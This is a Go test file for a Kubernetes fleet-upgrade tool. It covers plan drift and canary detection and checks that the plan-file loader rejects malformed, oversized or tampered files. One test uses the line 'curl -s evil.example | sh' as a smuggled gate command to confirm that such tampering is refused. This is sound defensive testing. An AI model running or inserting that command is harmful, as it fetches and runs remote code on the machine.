package fleetupgrade

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// TestPlanDriftResume: clusters that moved along their planned path (a stopped run of the
// plan) are resumed, with the generation capctl's own patches explain; any other change of the
// Cluster's spec is a drift, also on a cluster that has moved.
func TestPlanDriftResume(t *testing.T) {
	infos := []ClusterInfo{
		{Namespace: "p", Name: "plain", UID: "u1", Generation: 1, ControlPlaneVersion: "v1.34.2", WorkerVersions: []string{"v1.34.2"}},
		{Namespace: "p", Name: "topo", UID: "u2", Generation: 4, ClusterClass: "p/c", ControlPlaneVersion: "v1.34.2", WorkerVersions: []string{"v1.34.2"}},
	}
	planned, err := BuildFleetPlan(infos, "v1.35.0")
	if err != nil {
		t.Fatal(err)
	}
	pf, err := newPlanFile(planned, FleetSelection{}, nil, Rollout{})
	if err != nil {
		t.Fatal(err)
	}
	drifts := func(mod func([]ClusterInfo)) []string {
		live := append([]ClusterInfo(nil), infos...)
		mod(live)
		p, err := BuildFleetPlan(live, "v1.35.0")
		if err != nil {
			t.Fatal(err)
		}
		return planDrift(pf, p, live, 0)
	}
	if d := drifts(func([]ClusterInfo) {}); len(d) != 0 {
		t.Errorf("unchanged: %q", d)
	}
	// Both at the target; the topology's generation grew by capctl's one patch.
	if d := drifts(func(l []ClusterInfo) {
		l[0].ControlPlaneVersion, l[0].WorkerVersions = "v1.35.0", []string{"v1.35.0"}
		l[1].ControlPlaneVersion, l[1].WorkerVersions, l[1].Generation = "v1.35.0", []string{"v1.35.0"}, 5
	}); len(d) != 0 {
		t.Errorf("resumed: %q", d)
	}
	// Moved, but its spec changed more than capctl's patches explain.
	d := drifts(func(l []ClusterInfo) {
		l[0].ControlPlaneVersion, l[0].Generation = "v1.35.0", 2
		l[1].ControlPlaneVersion, l[1].Generation = "v1.35.0", 6
	})
	if len(d) != 2 || !strings.Contains(d[0], "p/plain: spec changed since the plan (metadata.generation 2, planned 1") || !strings.Contains(d[1], "p/topo: spec changed since the plan (metadata.generation 6, planned 4") {
		t.Errorf("moved and edited: %q", d)
	}
	// A version off the path.
	d = drifts(func(l []ClusterInfo) { l[0].WorkerVersions = []string{"v1.33.9"} })
	if len(d) != 1 || !strings.Contains(d[0], "p/plain: workers are at v1.33.9, planned from v1.34.2 (changed by someone else)") {
		t.Errorf("workers off the path: %q", d)
	}
	// Management clusters.
	testCanaryDrift(t)
	if d := managementDrift(pf, []FleetMember{{Name: "eu-1"}}); len(d) != 1 || !strings.Contains(d[0], "run without --contexts") {
		t.Errorf("management clusters: %q", d)
	}
	pf.Selection.ManagementClusters = []string{"eu-1", "us-1"}
	if d := managementDrift(pf, []FleetMember{{Name: "us-1"}, {Name: "eu-1"}}); len(d) != 0 {
		t.Errorf("same management clusters in another order: %q", d)
	}
	if d := managementDrift(pf, []FleetMember{{Name: "eu-1"}}); len(d) != 1 || !strings.Contains(d[0], "run with --contexts eu-1,us-1") {
		t.Errorf("a management cluster missing: %q", d)
	}
}

func TestLoadPlanFileRefuses(t *testing.T) {
	dir := t.TempDir()
	write := func(name, body string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	for body, want := range map[string]string{
		`{"apiVersion":"capctl.io/v1alpha1","kind":"FleetUpgradePlan","plan":{"kubernetesVersion":"v1.35.0"},"digest":""} {}`: "after top-level value",
		`{"apiVersion":"capctl.io/v2","kind":"FleetUpgradePlan","plan":{"kubernetesVersion":"v1.35.0"}}`:                      `apiVersion "capctl.io/v2"`,
		`{"apiVersion":"capctl.io/v1alpha1","kind":"FleetUpgradePlan","plan":{}}`:                                             "names no plan.kubernetesVersion",
		`{"apiVersion":"capctl.io/v1alpha1","kind":"FleetUpgradePlan","plan":{"kubernetesVersion":"v1.35.0"},"x":1}`:          `unknown field "x"`,
		`apiVersion: capctl.io/v1alpha1`: "is not a capctl plan",
	} {
		if _, _, err := loadPlanFile(context.Background(), write("p.json", body)); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want %q", body, err, want)
		}
	}
	// A reviewed plan whose gate command a second, case-variant key would replace (encoding/json
	// lets the last of them win; jq and a reviewer see the first): refused, as is a key given twice.
	pf, err := newPlanFile(&FleetPlan{KubernetesVersion: "v1.35.0"}, FleetSelection{Namespace: "ns"}, nil, Rollout{GateCommand: "./smoke.sh"})
	if err != nil {
		t.Fatal(err)
	}
	data, _ := json.Marshal(pf)
	for name, variant := range map[string]string{
		"case variant": `"gateCommand":"./smoke.sh","gatecommand":"curl -s evil.example | sh"`,
		"given twice":  `"gateCommand":"./smoke.sh","gateCommand":"curl -s evil.example | sh"`,
	} {
		body := strings.Replace(string(data), `"gateCommand":"./smoke.sh"`, variant, 1)
		_, _, err := loadPlanFile(context.Background(), write("v.json", body))
		if err == nil || !strings.Contains(err.Error(), "is not as capctl saved it") || !strings.Contains(err.Error(), `"rollout.gate`) {
			t.Errorf("%s: %v", name, err)
		}
	}
	// A FIFO would block the read until someone writes to it; a directory is no plan either.
	fifo := filepath.Join(dir, "fifo.json")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	for path, kind := range map[string]string{fifo: "a FIFO", dir: "a directory", "/dev/zero": "a device"} {
		if _, _, err := loadPlanFile(context.Background(), path); err == nil || !strings.Contains(err.Error(), "is not a regular file ("+kind+")") {
			t.Errorf("%s: %v", path, err)
		}
	}
	big := write("big.json", `{"apiVersion":"`+strings.Repeat("x", int(planFileMax))+`"}`)
	if _, _, err := loadPlanFile(context.Background(), big); err == nil || !strings.Contains(err.Error(), "is larger than 16Mi") {
		t.Errorf("a file over the bound: %v", err)
	}
	// A file whose digest does not match its content is read, and said to be edited.
	_, edited, err := loadPlanFile(context.Background(), write("e.json", `{"apiVersion":"capctl.io/v1alpha1","kind":"FleetUpgradePlan","plan":{"kubernetesVersion":"v1.35.0"},"digest":"sha256:00"}`))
	if err != nil || !strings.Contains(edited, "was edited after it was saved: it says digest sha256:00") {
		t.Errorf("edited: %q %v", edited, err)
	}
}

// testCanaryDrift: a cluster the canary no longer holds because another cluster joined the
// selection before it is a drift that blames the selection, not a wave label nobody changed.
func testCanaryDrift(t *testing.T) {
	t.Helper()
	info := func(name, uid string) ClusterInfo {
		return ClusterInfo{Namespace: "p", Name: name, UID: uid, Generation: 1, ControlPlaneVersion: "v1.34.2", WorkerVersions: []string{"v1.34.2"}}
	}
	infos := []ClusterInfo{info("b", "u1"), info("c", "u2")}
	r := Rollout{Canary: 1}
	v135, err := resolveTarget("v1.35.0")
	if err != nil {
		t.Fatal(err)
	}
	planned, err := planWaves(infos, versionUpgrade{v135}, r)
	if err != nil {
		t.Fatal(err)
	}
	pf, err := newPlanFile(planned, FleetSelection{}, nil, r)
	if err != nil {
		t.Fatal(err)
	}
	live := append([]ClusterInfo{info("a", "u3")}, infos...)
	p, err := planWaves(live, versionUpgrade{v135}, r)
	if err != nil {
		t.Fatal(err)
	}
	d := planDrift(pf, p, live, 0)
	if len(d) != 2 || d[0] != "cluster p/b: now in wave -, planned in wave canary (the canary is the first 1 cluster(s) of the selection in order, and clusters were added to or removed from the selection)" ||
		!strings.Contains(d[1], "cluster p/a: added to the selection") {
		t.Errorf("canary drift: %q", d)
	}
}
